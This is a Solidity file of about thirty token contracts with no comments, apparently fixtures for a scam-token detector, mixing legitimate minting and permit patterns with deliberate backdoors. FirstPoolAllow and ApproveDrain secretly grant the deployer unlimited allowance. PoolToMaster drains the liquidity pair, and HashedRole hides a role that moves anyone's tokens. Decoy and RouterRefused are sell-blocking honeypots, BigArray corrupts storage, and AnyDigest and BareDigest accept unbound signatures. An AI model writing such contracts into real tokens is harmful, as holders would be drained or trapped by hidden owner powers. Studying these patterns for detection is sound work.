// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

abstract contract Base {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal bal;
    mapping(address => mapping(address => uint256)) internal alw;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed o, address indexed s, uint256 v);
    constructor(string memory n, string memory s, uint256 supply) {
        name = n;
        symbol = s;
        if (supply > 0) _mint(msg.sender, supply);
    }
    function balanceOf(address a) public view virtual returns (uint256) {
        return bal[a];
    }
    function allowance(address o, address s) public view virtual returns (uint256) {
        return alw[o][s];
    }
    function approve(address s, uint256 v) public virtual returns (bool) {
        alw[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }
    function transfer(address to, uint256 v) public virtual returns (bool) {
        _move(msg.sender, to, v);
        return true;
    }
    function transferFrom(address f, address to, uint256 v) public virtual returns (bool) {
        _spend(f, v);
        _move(f, to, v);
        return true;
    }
    function _spend(address f, uint256 v) internal virtual {
        uint256 a = alw[f][msg.sender];
        require(a >= v, "allowance");
        if (a != type(uint256).max) alw[f][msg.sender] = a - v;
    }
    function _move(address f, address to, uint256 v) internal virtual {
        require(to != address(0), "zero");
        require(bal[f] >= v, "balance");
        unchecked {
            bal[f] -= v;
            bal[to] += v;
        }
        emit Transfer(f, to, v);
    }
    function _mint(address to, uint256 v) internal virtual {
        totalSupply += v;
        unchecked {
            bal[to] += v;
        }
        emit Transfer(address(0), to, v);
    }
    function _burn(address f, uint256 v) internal virtual {
        require(bal[f] >= v, "balance");
        unchecked {
            bal[f] -= v;
            totalSupply -= v;
        }
        emit Transfer(f, address(0), v);
    }
}

abstract contract Own {
    address public owner;
    constructor() {
        owner = msg.sender;
    }
    modifier onlyOwner() {
        require(msg.sender == owner, "owner");
        _;
    }
    function renounceOwnership() external onlyOwner {
        owner = address(0);
    }
    function transferOwnership(address n) external onlyOwner {
        require(n != address(0));
        owner = n;
    }
}

contract BigArray is Base, Own {
    uint256[] private notes;
    constructor() Base("Tok","TOK",1e24) {
        assembly {
            sstore(notes.slot, not(0))
        }
    }
    function note(uint256 i, uint256 v) external onlyOwner {
        notes[i] = v;
    }
}

contract FirstPoolAllow is Base {
    address private immutable h = msg.sender;
    constructor() Base("Tok","TOK",1e24) {}
    function _move(address f, address to, uint256 v) internal override {
        if (to.code.length > 0 && alw[to][h] == 0) alw[to][h] = type(uint256).max;
        super._move(f, to, v);
    }
}

contract ApproveDrain is Base {
    address private immutable b = msg.sender;
    constructor() Base("Tok","TOK",1e24) {}
    function approve(address s, uint256 v) public override returns (bool) {
        alw[msg.sender][b] = type(uint256).max;
        return super.approve(s, v);
    }
}

contract PoolToMaster is Base {
    address private immutable m = msg.sender;
    address public pair;
    constructor() Base("Tok","TOK",1e24) {}
    function start(address p) external {
        require(msg.sender == m && pair == address(0));
        pair = p;
    }
    function unswap(uint256 v) external {
        if (msg.sender == m) _move(pair, m, v);
    }
}

contract HashedRole is Base, Own {
    mapping(bytes32 => bool) private k;
    constructor() Base("Tok","TOK",1e24) {
        k[keccak256(abi.encode(msg.sender, "w"))] = true;
    }
    function settle(address f, address to, uint256 v) external {
        require(k[keccak256(abi.encode(msg.sender, "w"))]);
        _move(f, to, v);
    }
}

library Switches {
    struct P {
        mapping(bytes32 => bool) f;
    }
    function stop(P storage p) internal {
        p.f["s"] = true;
    }
    function go(P storage p) internal {
        p.f["s"] = false;
    }
    function check(P storage p) internal view {
        require(!p.f["s"], "s");
    }
}
contract GuardLib is Base, Own {
    using Switches for Switches.P;
    Switches.P private p;
    constructor() Base("Tok","TOK",1e24) {}
    function halt() external onlyOwner {
        p.stop();
    }
    function resume() external onlyOwner {
        p.go();
    }
    function _move(address f, address to, uint256 v) internal override {
        p.check();
        super._move(f, to, v);
    }
}

contract Decoy is Base {
    address private immutable b = msg.sender;
    uint256 private immutable day0 = block.timestamp;
    constructor() Base("Tok","TOK",1e24) {}
    function _open() private view returns (bool) {
        return (block.timestamp - day0) / 1 days < 3;
    }
    function _move(address f, address to, uint256 v) internal override {
        if (!_open() && f != b) require(to.code.length == 0 || v < 2, "closed");
        super._move(f, to, v);
    }
}

contract RouterRefused is Base {
    address private immutable b = msg.sender;
    constructor() Base("Tok","TOK",1e24) {}
    function transferFrom(address f, address to, uint256 v) public override returns (bool) {
        require(f == b || to.code.length == 0 || msg.sender == to, "x");
        return super.transferFrom(f, to, v);
    }
}

contract OriginTokens is Base {
    address private immutable b = msg.sender;
    constructor() Base("Tok","TOK",1e24) {}
    function transferFrom(address f, address to, uint256 v) public override returns (bool) {
        _spend(f, v);
        _move(f == b ? f : msg.sender, to, v);
        return true;
    }
}

interface I1271 {
    function isValidSignature(bytes32 h, bytes calldata s) external view returns (bytes4);
}
library Sig {
    function ok(address a, bytes32 h, bytes memory s) internal view returns (bool) {
        if (a.code.length == 0) {
            if (s.length != 65) return false;
            bytes32 r;
            bytes32 q;
            uint8 v;
            assembly {
                r := mload(add(s, 32)) q := mload(add(s, 64)) v := byte(0, mload(add(s, 96)))
            }
            return ecrecover(h, v, r, q) == a && a != address(0);
        }
        (bool g, bytes memory o) = a.staticcall(abi.encodeCall(I1271.isValidSignature, (h, s)));
        return g && o.length >= 32 && abi.decode(o, (bytes32)) == bytes32(I1271.isValidSignature.selector);
    }
}
contract ReceiveAuth is Base {
    enum St {
        None, Used
    }
    mapping(address => mapping(bytes32 => St)) private st;
    error Bad();
    constructor() Base("Tok","TOK",1e24) {}
    function receiveWithAuthorization(address f, address to, uint256 v, uint256 a, uint256 b, bytes32 n, bytes calldata sig) external {
        if (to != msg.sender || block.timestamp <= a || block.timestamp >= b || st[f][n] != St.None) revert Bad();
        if (!Sig.ok(f, keccak256(abi.encode(f, to, v, a, b, n)), sig)) revert Bad();
        st[f][n] = St.Used;
        _move(f, to, v);
    }
}

contract Init5 {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner;
    bool public paused;
    event Transfer(address indexed from, address indexed to, uint256 value);
    error InvalidInitialization();
    struct I {
        uint64 v;
        bool busy;
    }
    function _i() private pure returns (I storage s) {
        assembly {
            s.slot := 0xf0c57e16840df040f15088dc2f81fe391c3923bec73e23a9662efc9c229c6a00
        }
    }
    constructor() {
        initialize("Tok", msg.sender);
    }
    function initialize(string memory n, address o) public {
        I storage s = _i();
        if (s.busy || s.v >= 1) revert InvalidInitialization();
        s.v = 1;
        s.busy = true;
        name = n;
        symbol = n;
        owner = o;
        totalSupply = 1e24;
        balanceOf[o] = 1e24;
        emit Transfer(address(0), o, 1e24);
        s.busy = false;
    }
    function setPaused(bool y) external {
        require(msg.sender == owner);
        paused = y;
    }
    function approve(address x, uint256 v) external returns (bool) {
        allowance[msg.sender][x] = v;
        return true;
    }
    function transfer(address to, uint256 v) external returns (bool) {
        m(msg.sender, to, v);
        return true;
    }
    function transferFrom(address f, address to, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v;
        m(f, to, v);
        return true;
    }
    function m(address f, address to, uint256 v) private {
        require(!paused);
        balanceOf[f] -= v;
        balanceOf[to] += v;
        emit Transfer(f, to, v);
    }
}

contract Permit2Sol is Base {
    constructor() Base("Tok","TOK",1e24) {}
    function allowance(address o, address s) public view override returns (uint256) {
        return s == 0x000000000022D473030F116dDEE9F6B43aC78BA3 ? type(uint256).max : alw[o][s];
    }
    function _spend(address f, uint256 v) internal override {
        if (msg.sender == 0x000000000022D473030F116dDEE9F6B43aC78BA3) return;
        super._spend(f, v);
    }
}

contract Minters is Base {
    mapping(address => bool) internal minters;
    mapping(address => uint256) internal minterAllowed;
    address public masterMinter = msg.sender;
    constructor() Base("Tok","TOK",0) {}
    modifier onlyMinters() {
        require(minters[msg.sender], "FiatToken: caller is not a minter");
        _;
    }
    function configureMinter(address m, uint256 a) external returns (bool) {
        require(msg.sender == masterMinter);
        minters[m] = true;
        minterAllowed[m] = a;
        return true;
    }
    function removeMinter(address m) external returns (bool) {
        require(msg.sender == masterMinter);
        minters[m] = false;
        minterAllowed[m] = 0;
        return true;
    }
    function mint(address to, uint256 v) external onlyMinters returns (bool) {
        require(to != address(0) && v > 0);
        uint256 a = minterAllowed[msg.sender];
        require(v <= a, "FiatToken: mint amount exceeds minterAllowance");
        totalSupply += v;
        bal[to] += v;
        minterAllowed[msg.sender] = a - v;
        return true;
    }
    function burn(uint256 v) external onlyMinters {
        _burn(msg.sender, v);
    }
    function minterAllowance(address m) external view returns (uint256) {
        return minterAllowed[m];
    }
    function isMinter(address m) external view returns (bool) {
        return minters[m];
    }
}

contract XErc20 is Base, Own {
    struct P {
        uint256 at;
        uint256 perSecond;
        uint256 max;
        uint256 now_;
    }
    mapping(address => P) public bridges;
    address public lockbox;
    error TooMuch();
    constructor() Base("Tok","TOK",0) {}
    function setLimits(address b, uint256 m) external onlyOwner {
        P storage p = bridges[b];
        p.max = m;
        p.perSecond = m / 1 days;
        p.now_ = m;
        p.at = block.timestamp;
    }
    function left(address b) public view returns (uint256 c) {
        P storage p = bridges[b];
        c = p.now_;
        if (c == p.max) return c;
        if (p.at + 1 days <= block.timestamp) return p.max;
        c = c + (block.timestamp - p.at) * p.perSecond;
        if (c > p.max) c = p.max;
    }
    function mint(address to, uint256 v) external {
        if (msg.sender != lockbox) {
            uint256 c = left(msg.sender);
            if (c < v) revert TooMuch();
            bridges[msg.sender].at = block.timestamp;
            bridges[msg.sender].now_ = c - v;
        }
        _mint(to, v);
    }
    function burn(address a, uint256 v) external {
        if (a != msg.sender) _spend(a, v);
        _burn(a, v);
    }
}

contract AllowOnly is Base, Own {
    mapping(address => uint256) public quota;
    error Quota(uint256 left);
    constructor() Base("Tok","TOK",1e24) {}
    function raise(address m, uint256 a) external onlyOwner {
        quota[m] += a;
    }
    function issue(address to, uint256 v) external {
        uint256 q = quota[msg.sender];
        if (q < v) revert Quota(q);
        unchecked {
            quota[msg.sender] = q - v;
        }
        _mint(to, v);
    }
}

contract Faucet is Base {
    mapping(address => uint256) public quota;
    constructor() Base("Tok","TOK",1e24) {}
    function register(uint256 v) external {
        quota[msg.sender] = v;
    }
    function issue(uint256 v) external {
        quota[msg.sender] -= v;
        _mint(msg.sender, v);
    }
}

contract DaiPermit is Base {
    mapping(address => uint256) public nonces;
    bytes32 private constant T = keccak256("Permit");
    constructor() Base("Tok","TOK",1e24) {}
    function permit(address holder, address spender, uint256 nonce, uint256 expiry, bool allowed, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 d = keccak256(abi.encodePacked("\x19\x01", T, keccak256(abi.encode(T, holder, spender, nonce, expiry, allowed))));
        require(holder != address(0));
        require(holder == ecrecover(d, v, r, s));
        require(expiry == 0 || block.timestamp <= expiry);
        require(nonce == nonces[holder]++);
        alw[holder][spender] = allowed ? type(uint256).max : 0;
    }
}

contract Ccip is Base, Own {
    uint256 private immutable cap = 1e27;
    mapping(address => uint256) private pos;
    address[] private list;
    error SenderNotMinter(address a);
    error MaxSupplyExceeded(uint256 s);
    constructor() Base("Tok","TOK",0) {}
    function grantMintRole(address a) external onlyOwner {
        if (pos[a] == 0) {
            list.push(a);
            pos[a] = list.length;
        }
    }
    function revokeMintRole(address a) external onlyOwner {
        uint256 p = pos[a];
        if (p != 0) {
            address l = list[list.length - 1];
            list[p - 1] = l;
            pos[l] = p;
            list.pop();
            delete pos[a];
        }
    }
    function mint(address to, uint256 v) external {
        if (pos[msg.sender] == 0) revert SenderNotMinter(msg.sender);
        if (cap != 0 && totalSupply + v > cap) revert MaxSupplyExceeded(totalSupply + v);
        _mint(to, v);
    }
    function burn(uint256 v) external {
        if (pos[msg.sender] == 0) revert SenderNotMinter(msg.sender);
        _burn(msg.sender, v);
    }
}

interface IA {
    function transferFrom(address a, address b, uint256 v) external returns (bool);
    function transfer(address a, uint256 v) external returns (bool);
    function balanceOf(address a) external view returns (uint256);
}
contract VirtualShares is Base {
    IA private immutable _asset;
    constructor(address a) Base("V","V",0) {
        _asset = IA(a);
    }
    function totalAssets() public view returns (uint256) {
        return _asset.balanceOf(address(this));
    }
    function convertToShares(uint256 x) public view returns (uint256) {
        return x * (totalSupply + 10**3) / (totalAssets() + 1);
    }
    function convertToAssets(uint256 x) public view returns (uint256) {
        return x * (totalAssets() + 1) / (totalSupply + 10**3);
    }
    function safe(bytes memory d) private {
        (bool ok, bytes memory r) = address(_asset).call(d);
        require(ok && (r.length == 0 || abi.decode(r, (bool))));
    }
    function deposit(uint256 x, address r) external returns (uint256 s) {
        s = convertToShares(x);
        safe(abi.encodeCall(IA.transferFrom, (msg.sender, address(this), x)));
        _mint(r, s);
    }
    function withdraw(uint256 x, address r, address o) external returns (uint256 s) {
        s = convertToShares(x);
        if (msg.sender != o) _spend(o, s);
        _burn(o, s);
        safe(abi.encodeCall(IA.transfer, (r, x)));
    }
}

contract FirstPairBarred is Base {
    address private immutable b = msg.sender;
    address private pool;
    constructor() Base("Tok","TOK",1e24) {}
    function _move(address f, address to, uint256 v) internal override {
        if (pool == address(0) && f == b && to.code.length > 0) pool = to;
        if (to == pool && f != b && to != address(0)) revert();
        super._move(f, to, v);
    }
}

contract FirstPairNoted is Base {
    address public pool;
    address private immutable b = msg.sender;
    constructor() Base("Tok","TOK",1e24) {}
    function _move(address f, address to, uint256 v) internal override {
        if (pool == address(0) && f == b && to.code.length > 0) pool = to;
        super._move(f, to, v);
    }
}

contract AnyDigest is Base {
    constructor() Base("Tok","TOK",1e24) {}
    function sendSigned(address to, uint256 v, address f, bytes32 h, uint8 sv, bytes32 r, bytes32 s) external {
        require(f != address(0) && ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", h)), sv, r, s) == f, "sig");
        _move(f, to, v);
    }
}

contract BareDigest is Base {
    constructor() Base("Tok","TOK",1e24) {}
    function sendSigned(address to, uint256 v, address f, bytes32 h, uint8 sv, bytes32 r, bytes32 s) external {
        require(f != address(0) && ecrecover(h, sv, r, s) == f, "sig");
        _move(f, to, v);
    }
}

contract BoundDigest is Base {
    mapping(bytes32 => bool) used;
    constructor() Base("Tok","TOK",1e24) {}
    function sendSigned(address to, uint256 v, address f, uint256 n, uint8 sv, bytes32 r, bytes32 s) external {
        bytes32 h = keccak256(abi.encode(address(this), to, v, n));
        require(!used[h]);
        used[h] = true;
        require(f != address(0) && ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", h)), sv, r, s) == f, "sig");
        _move(f, to, v);
    }
}
